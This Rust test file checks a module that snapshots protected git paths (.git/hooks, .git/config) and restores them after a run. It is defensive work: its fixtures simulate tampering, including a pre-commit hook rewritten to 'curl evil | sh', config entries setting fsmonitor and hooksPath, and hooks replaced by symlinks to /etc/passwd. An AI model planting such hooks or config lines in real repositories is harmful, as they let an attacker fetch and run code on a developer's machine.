//! Recording protected paths and undoing what a run changed, on real directories.

use std::os::unix::fs::{PermissionsExt, symlink};

use super::*;

struct World {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    store: PathBuf,
}

fn world() -> World {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let ws = root.join("ws");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(
        ws.join(".git/hooks/pre-commit"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    symlink("pre-commit", ws.join(".git/hooks/pre-push")).unwrap();
    World {
        store: root.join("control/protected"),
        ws,
        _dir: dir,
    }
}

fn tp(w: &World, rel: &str) -> TreePath {
    TreePath::new(&w.ws, Path::new(rel)).unwrap()
}

fn protected(w: &World) -> Vec<TreePath> {
    vec![tp(w, ".git/hooks"), tp(w, ".git/config")]
}

fn read(p: PathBuf) -> String {
    std::fs::read_to_string(p).unwrap()
}

#[test]
fn nothing_changed_nothing_reported_and_the_copies_go() {
    let w = world();
    let snap = Snapshot::take(&protected(&w), &w.store).unwrap();
    assert!(w.store.is_dir());
    assert!(snap.check_and_restore().is_empty());
    assert!(!w.store.exists(), "copies kept although nothing changed");
}

#[test]
fn a_changed_file_is_restored_and_reported() {
    let w = world();
    let snap = Snapshot::take(&protected(&w), &w.store).unwrap();
    // Through any route: here simply rewritten (as through an old hard link would).
    std::fs::write(w.ws.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    let v = snap.check_and_restore();
    assert_eq!(v.len(), 1, "{v:?}");
    assert_eq!(v[0].kind, ViolationKind::ProtectedChanged);
    assert_eq!(v[0].path, w.ws.join(".git/config"));
    assert!(v[0].undone && v[0].detail.contains("restored"), "{}", v[0]);
    assert_eq!(read(w.ws.join(".git/config")), "[core]\n");
    assert!(w.store.is_dir(), "the copies are kept as evidence");
}

#[test]
fn a_new_hook_is_removed_and_a_replaced_one_restored() {
    let w = world();
    let snap = Snapshot::take(&protected(&w), &w.store).unwrap();
    std::fs::write(w.ws.join(".git/hooks/post-checkout"), "evil").unwrap();
    std::fs::remove_file(w.ws.join(".git/hooks/pre-commit")).unwrap();
    symlink("/etc/passwd", w.ws.join(".git/hooks/pre-commit")).unwrap();
    std::fs::remove_file(w.ws.join(".git/hooks/pre-push")).unwrap();
    symlink("/tmp/evil", w.ws.join(".git/hooks/pre-push")).unwrap();
    let v = snap.check_and_restore();
    let paths: Vec<_> = v.iter().map(|v| v.path.clone()).collect();
    assert!(
        paths.contains(&w.ws.join(".git/hooks/post-checkout")),
        "{v:?}"
    );
    assert!(paths.contains(&w.ws.join(".git/hooks/pre-commit")), "{v:?}");
    assert!(v.iter().all(|v| v.undone), "{v:?}");
    assert!(!w.ws.join(".git/hooks/post-checkout").exists());
    let hook = w.ws.join(".git/hooks/pre-commit");
    assert!(hook.symlink_metadata().unwrap().is_file());
    assert_eq!(read(hook.clone()), "#!/bin/sh\nexit 0\n");
    assert_eq!(
        hook.metadata().unwrap().permissions().mode() & 0o7777,
        0o755
    );
    assert_eq!(
        std::fs::read_link(w.ws.join(".git/hooks/pre-push")).unwrap(),
        PathBuf::from("pre-commit")
    );
}

#[test]
fn a_directory_swapped_for_another_is_put_back() {
    let w = world();
    let snap = Snapshot::take(&protected(&w), &w.store).unwrap();
    std::fs::rename(w.ws.join(".git/hooks"), w.ws.join("hooks-away")).unwrap();
    std::fs::create_dir(w.ws.join(".git/hooks")).unwrap();
    std::fs::write(w.ws.join(".git/hooks/pre-commit"), "evil").unwrap();
    let v = snap.check_and_restore();
    assert!(!v.is_empty());
    assert_eq!(
        read(w.ws.join(".git/hooks/pre-commit")),
        "#!/bin/sh\nexit 0\n"
    );
    assert!(w.ws.join(".git/hooks/pre-push").symlink_metadata().is_ok());
}

#[test]
fn hard_linked_protected_files_are_refused() {
    let w = world();
    std::fs::hard_link(w.ws.join(".git/hooks/pre-commit"), w.ws.join("alias")).unwrap();
    let e = refuse_hard_links(&protected(&w)).unwrap_err();
    assert!(
        e.to_string().contains("pre-commit") && e.to_string().contains("2 hard links"),
        "{e}"
    );
    assert_eq!(e.class(), crate::ErrorClass::Usage);
    std::fs::remove_file(w.ws.join("alias")).unwrap();
    refuse_hard_links(&protected(&w)).unwrap();
}

#[test]
fn the_copy_budget_bounds_what_is_kept() {
    let w = world();
    let big = w.ws.join(".git/hooks/big");
    let f = std::fs::File::create(&big).unwrap();
    f.set_len(COPY_BUDGET + 1).unwrap();
    let snap = Snapshot::take(&protected(&w), &w.store).unwrap();
    std::fs::write(&big, "changed").unwrap();
    let v = snap.check_and_restore();
    let big_v = v.iter().find(|v| v.path == big).unwrap();
    assert!(!big_v.undone && big_v.detail.contains("budget"), "{big_v}");
}

/// A take as the next run's would be: a while after the files were last written.
fn later() -> std::time::SystemTime {
    std::time::SystemTime::now() + std::time::Duration::from_secs(5)
}

fn kept_names(kept: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(kept)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn kept_copies_spare_the_next_run_every_copy_of_an_unchanged_file() {
    let w = world();
    let kept = w.store.parent().unwrap().join("kept");
    let first = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
    assert_eq!(first.copied(), 2, "pre-commit and config copied");
    assert_eq!(kept_names(&kept).len(), 2);
    assert!(first.check_and_restore().is_empty());
    assert!(kept.is_dir(), "kept for the next run");
    let inode = |p: &Path| std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(p).unwrap());
    let before: Vec<u64> = kept_names(&kept)
        .iter()
        .map(|n| inode(&kept.join(n)))
        .collect();
    // The next run: nothing copied, the same copies.
    let second = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
    assert_eq!(second.copied(), 0);
    let after: Vec<u64> = kept_names(&kept)
        .iter()
        .map(|n| inode(&kept.join(n)))
        .collect();
    assert_eq!(before, after);
    // A change during that run is undone from the kept copy.
    std::fs::write(
        w.ws.join(".git/hooks/pre-commit"),
        "#!/bin/sh\ncurl evil | sh\n",
    )
    .unwrap();
    let v = second.check_and_restore();
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(v[0].undone, "{}", v[0]);
    assert_eq!(
        read(w.ws.join(".git/hooks/pre-commit")),
        "#!/bin/sh\nexit 0\n"
    );
    // What was undone stays next to the run's logs, as evidence, as without kept copies.
    let evidence: Vec<String> = std::fs::read_dir(&w.store)
        .unwrap()
        .map(|e| read(e.unwrap().path()))
        .collect();
    assert_eq!(evidence, ["#!/bin/sh\nexit 0\n"]);
}

#[test]
fn a_file_changed_between_runs_is_copied_again_and_its_old_copy_goes() {
    let w = world();
    let kept = w.store.parent().unwrap().join("kept");
    Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
    let old = kept_names(&kept);
    // The user edits the config between two runs (same size: only the times tell).
    std::fs::write(w.ws.join(".git/config"), "[cOre]\n").unwrap();
    let snap = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
    assert_eq!(snap.copied(), 1, "only the config");
    let now = kept_names(&kept);
    assert_eq!(now.len(), 2, "{now:?}");
    assert_eq!(
        now.iter().filter(|n| old.contains(n)).count(),
        1,
        "the old config's copy went"
    );
    // The run rewrites it: restored to the user's edit, not to the older content.
    std::fs::write(w.ws.join(".git/config"), "[core]\n\thooksPath = /tmp\n").unwrap();
    assert_eq!(snap.check_and_restore().len(), 1);
    assert_eq!(read(w.ws.join(".git/config")), "[cOre]\n");
}

#[test]
fn a_file_written_just_now_is_copied_for_this_run_only() {
    let w = world();
    let kept = w.store.parent().unwrap().join("kept");
    // A take right after the files were written (a tenth of a second after the last change
    // time): too recent to trust a kept copy with (a write in the same clock tick would not
    // move them).
    let ctime = |p: &str| {
        let m = std::fs::metadata(w.ws.join(p)).unwrap();
        std::time::UNIX_EPOCH
            + std::time::Duration::new(
                std::os::unix::fs::MetadataExt::ctime(&m)
                    .try_into()
                    .unwrap(),
                std::os::unix::fs::MetadataExt::ctime_nsec(&m)
                    .try_into()
                    .unwrap(),
            )
    };
    let just_now = ctime(".git/config").max(ctime(".git/hooks/pre-commit"))
        + std::time::Duration::from_millis(100);
    let snap = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), just_now).unwrap();
    assert_eq!(snap.copied(), 2);
    assert!(kept_names(&kept).is_empty(), "nothing kept");
    std::fs::write(w.ws.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    assert_eq!(snap.check_and_restore().len(), 1);
    assert_eq!(read(w.ws.join(".git/config")), "[core]\n");
    // And a kept copy whose file is no more a regular file of its size is not reused.
    Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
    for n in kept_names(&kept) {
        std::fs::write(kept.join(&n), "short").unwrap();
    }
    let again = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
    assert_eq!(again.copied(), 2, "the short copies are not trusted");
}
